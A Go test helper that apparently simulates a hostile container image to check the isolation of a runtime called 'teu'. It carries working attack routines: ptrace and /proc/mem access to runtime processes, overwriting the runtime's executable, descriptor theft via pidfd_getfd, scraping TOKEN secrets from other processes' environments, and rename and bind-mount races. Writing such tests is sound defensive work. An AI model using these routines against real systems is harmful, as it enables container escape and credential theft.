// Attacker is what a hostile image brings along; the tests build it static.
//
//	watch SECONDS        looks into every process that appears, until it has run something of the container's own, and
//	                     tries to trace it; prints what it got as JSON
//	pose NAME            becomes a process that looks like teu's own, with that name and its arguments
//	overwrite SECONDS    writes to the executable of every process that appears, however it can be reached
//	hold                 traces every thread of a payload in its pid namespace but the first, and never waits for one
//	take                 copies the descriptors of the first process of teu's that it sees in its pid namespace, and stops it
//	stop SECONDS         stops every process of its pid namespace but itself, as soon as it appears
//	move KINDS           moves to new namespaces ("user,mnt"), says "moved" and prints the TOKEN of every environment that it can read
//	race PATH            waits for a process to appear, moves to a new user and mount namespace and binds itself over PATH
//	orphan SECONDS       ends its first thread, and itself after that time
//	exchange PATH PATH   gives two files each other's name, for ever
//	burn                 keeps a processor busy, for ever
//
// With other arguments, as when it is executed in another's place, it says who it is.
package main

/*
#cgo CFLAGS: -Wall -Wextra -Werror -O2 -std=gnu11
*/
import "C"

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

const sysRenameat2 = 316

// Loot is what `watch` got of processes that were still teu's, and `overwrite` of their executables.
type Loot struct {
	Seen              int // processes looked at before they were the container's
	Exe, Root, Cwd    int // links of /proc/PID that could be read
	FD, Mem           int // links of /proc/PID/fd, and /proc/PID/mem opened
	Traced            int // PTRACE_SEIZE of one that has capabilities the container has not
	Opened            int // executables opened for writing, which a memfd may be
	Errors, Overwrote map[string]int
}

// The first thread is main's: see orphan.
func init() { runtime.LockOSThread() }

func main() {
	switch {
	case pose():
		return
	case len(os.Args) == 4 && os.Args[1] == "exchange":
		fmt.Println("ready")
		for exchange(os.Args[2], os.Args[3]) == 0 {
		}
		os.Exit(1)
	case len(os.Args) == 2 && os.Args[1] == "burn":
		for n := 0; ; n++ {
		}
	case len(os.Args) == 2 && os.Args[1] == "hold":
		hold()
	case len(os.Args) == 2 && os.Args[1] == "take":
		take()
	case len(os.Args) != 3:
		stranger()
	case os.Args[1] == "move": // which move.c has done
		snoop()
	}
	seconds, err := strconv.Atoi(os.Args[2])
	if err != nil {
		stranger()
	}
	if os.Args[1] == "stop" {
		stop(time.Duration(seconds) * time.Second)
		return
	}
	loot := Loot{Errors: map[string]int{}, Overwrote: map[string]int{}}
	if os.Args[1] == "orphan" {
		orphan(seconds)
	}
	look := loot.watch
	if os.Args[1] == "overwrite" {
		look = loot.overwrite
	}
	fmt.Println("ready")
	last := os.Getpid()
	for end := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(end); {
		for pid := last + 1; pid < last+32; pid++ {
			if look(pid) {
				last = pid
				syscall.Wait4(-1, nil, syscall.WNOHANG, nil)
			}
		}
	}
	if err := json.NewEncoder(os.Stdout).Encode(loot); err != nil {
		os.Exit(1)
	}
}

func stop(limit time.Duration) {
	fmt.Println("ready")
	for end := time.Now().Add(limit); time.Now().Before(end); {
		syscall.Kill(-1, syscall.SIGSTOP)
		time.Sleep(20 * time.Microsecond)
	}
}

// hold keeps threads from going when they end: whoever traces one has to wait for it.
func hold() {
	for {
		names, _ := filepath.Glob("/proc/[0-9]*/task/[0-9]*")
		for _, name := range names {
			pid, tid := filepath.Base(filepath.Dir(filepath.Dir(name))), filepath.Base(name)
			comm, err := os.ReadFile("/proc/" + pid + "/comm")
			if err != nil || string(comm) != "payload\n" || pid == tid {
				continue
			}
			n, _ := strconv.Atoi(tid)
			if _, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceSeize, uintptr(n), 0, 0, 0, 0); errno == 0 {
				fmt.Println("held")
			}
		}
		time.Sleep(time.Millisecond)
	}
}

// take keeps what another process has open from being closed with it.
func take() {
	const pidfdOpen, pidfdGetfd, control = 434, 438, 3
	for pid := os.Getpid(); ; pid = os.Getpid() + (pid-os.Getpid()+1)%64 { // its own threads have numbers as well
		comm, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		if err != nil || strings.Trim(string(comm), "0123456789\n") != "" {
			time.Sleep(100 * time.Microsecond)
			continue
		}
		fd, _, _ := syscall.RawSyscall(pidfdOpen, uintptr(pid), 0, 0)
		n := 0
		for end := time.Now().Add(5 * time.Second); n < 2 && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
			for theirs := uintptr(control); theirs < 64; theirs++ {
				if _, _, errno := syscall.RawSyscall(pidfdGetfd, fd, theirs, 0); errno == 0 {
					n++
				}
			}
		}
		syscall.Kill(pid, syscall.SIGSTOP)
		fmt.Println("took", n)
		select {}
	}
}

// stranger says who it is and ends.
func stranger() {
	fmt.Println("attacker: uid", os.Getuid())
	os.Exit(2)
}

// snoop prints the TOKENs of others.
func snoop() {
	fmt.Println("moved")
	for {
		dirs, err := os.ReadDir("/proc")
		if err != nil {
			os.Exit(1)
		}
		for _, d := range dirs {
			text, err := os.ReadFile("/proc/" + d.Name() + "/environ")
			if err != nil {
				continue
			}
			for _, v := range strings.Split(string(text), "\x00") {
				if strings.HasPrefix(v, "TOKEN=") {
					fmt.Println(v)
				}
			}
		}
	}
}

// orphan leaves the process to its other threads.
func orphan(seconds int) {
	go func() {
		time.Sleep(time.Duration(seconds) * time.Second)
		os.Exit(0)
	}()
	fmt.Println("ready")
	syscall.Syscall(syscall.SYS_EXIT, 0, 0, 0)
}

// exchange is renameat2(2) with RENAME_EXCHANGE: neither name is ever missing.
func exchange(a, b string) syscall.Errno {
	const atFdcwd, renameExchange = -100, 2
	var paths [2]*byte
	for i, p := range []string{a, b} {
		var err error
		if paths[i], err = syscall.BytePtrFromString(p); err != nil {
			return syscall.EINVAL
		}
	}
	cwd := atFdcwd
	_, _, errno := syscall.Syscall6(sysRenameat2, uintptr(cwd), uintptr(unsafe.Pointer(paths[0])), uintptr(cwd),
		uintptr(unsafe.Pointer(paths[1])), renameExchange, 0)
	return errno
}

// ours reports whether the process runs something of the container's, or is gone; teu's has the number of a descriptor for
// a name.
func ours(pid int) bool {
	comm, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
	name := strings.TrimSpace(string(comm))
	return err != nil || name == "payload" || name == "attacker"
}

// watch looks into pid; true says that there is nothing more to see there.
func (l *Loot) watch(pid int) bool {
	if _, err := os.Stat(fmt.Sprintf("/proc/%d", pid)); err != nil {
		return false
	}
	if ours(pid) {
		return true
	}
	l.Seen++
	// Between a look and the name read after it the process may have become the container's: such a look does not count.
	count := func(n *int, err error) {
		if err == nil && !ours(pid) {
			*n++
		}
	}
	for link, n := range map[string]*int{"exe": &l.Exe, "root": &l.Root, "cwd": &l.Cwd} {
		_, err := os.Readlink(fmt.Sprintf("/proc/%d/%s", pid, link))
		count(n, err)
	}
	// Their numbers are to be had, by a root that may list any directory; not what they lead to.
	for _, fd := range numbers(pid) {
		_, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, fd))
		count(&l.FD, err)
	}
	f, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0)
	if err == nil {
		f.Close()
	}
	count(&l.Mem, err)
	l.trace(pid)
	return false
}

func numbers(pid int) []string {
	dir, err := os.Open(fmt.Sprintf("/proc/%d/fd", pid))
	if err != nil {
		return nil
	}
	defer dir.Close()
	names, _ := dir.Readdirnames(-1) // it may end meanwhile
	return names
}

const (
	ptraceSeize     = 0x4206     // PTRACE_SEIZE
	ptraceInterrupt = 0x4207     // PTRACE_INTERRUPT
	ptraceDetach    = 17         // PTRACE_DETACH
	wall            = 0x40000000 // __WALL
	sysAdmin        = 1 << 21    // CAP_SYS_ADMIN
)

func (l *Loot) trace(pid int) {
	if _, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceSeize, uintptr(pid), 0, 0, 0, 0); errno != 0 {
		return
	}
	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err == nil {
		_, caps, _ := strings.Cut(string(status), "CapPrm:\t")
		n, err := strconv.ParseUint(caps[:min(len(caps), 16)], 16, 64)
		if err == nil && n&sysAdmin != 0 {
			l.Traced++
		}
	}
	syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceInterrupt, uintptr(pid), 0, 0, 0, 0)
	syscall.Wait4(pid, nil, wall, nil)
	syscall.RawSyscall6(syscall.SYS_PTRACE, ptraceDetach, uintptr(pid), 0, 0, 0, 0)
}

// overwrite tries to write to the executable of pid when it is none of the container's: directly, through a descriptor of
// it, and, since ETXTBSY speaks of a running one, again when the process is gone.
func (l *Loot) overwrite(pid int) bool {
	exe := fmt.Sprintf("/proc/%d/exe", pid)
	target, err := os.Readlink(exe)
	if err != nil {
		return false
	}
	if !strings.HasSuffix(target, "/teu") && !strings.Contains(target, "memfd:teu") {
		return false
	}
	l.Seen++
	held, err := os.Open(exe)
	if err != nil {
		l.Errors[err.Error()]++
		return true
	}
	defer held.Close()
	again := fmt.Sprintf("/proc/self/fd/%d", held.Fd())
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
		for _, path := range []string{exe, again} {
			f, err := os.OpenFile(path, os.O_WRONLY|syscall.O_NONBLOCK, 0)
			if err != nil {
				l.note(err)
				continue
			}
			l.Opened++
			if _, err := f.WriteString("#!/bin/false\n"); err == nil {
				l.Overwrote[target]++
			}
			f.Close()
		}
		if _, err := os.Stat(exe); err != nil {
			break
		}
	}
	if err := os.Truncate(again, 0); err == nil {
		l.Overwrote[target]++
	}
	return true
}

func (l *Loot) note(err error) {
	if pe, ok := err.(*os.PathError); ok {
		err = pe.Err
	}
	l.Errors[err.Error()]++
}
